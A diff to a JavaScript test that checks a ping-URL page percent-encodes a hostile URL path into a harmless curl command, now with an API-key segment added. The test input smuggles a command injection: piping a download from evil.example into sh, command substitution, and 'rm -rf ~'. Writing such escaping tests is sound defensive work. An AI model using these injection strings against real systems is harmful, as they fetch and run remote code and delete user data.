@@ -18,10 +18,14 @@ describe('the page that a browser gets at a ping URL', () => {
   };
 
   it('gives one harmless word as the URL to copy, whatever text the link carried', async () => {
-    const { command } = await opened("/in/x';curl%20evil.example|sh;$(id)`id`%0Arm%20-rf%20~&%3Cb%3E");
+    // The name behind a key is the one part of such a URL that may be any text.
+    const key = `hpk_${'A'.repeat(43)}`;
+    const { command } = await opened(
+      `/in/${key}/x';curl%20evil.example|sh;$(id)\`id\`%0Arm%20-rf%20~&%3Cb%3E`,
+    );
 
     expect(command).toBe(
-      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/x%27%3Bcurl%20evil.example%7Csh%3B%24%28id%29%60id%60%0Arm%20-rf%20%7E%26%3Cb%3E`,
+      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/${key}/x%27%3Bcurl%20evil.example%7Csh%3B%24%28id%29%60id%60%0Arm%20-rf%20%7E%26%3Cb%3E`,
     );
   });
 
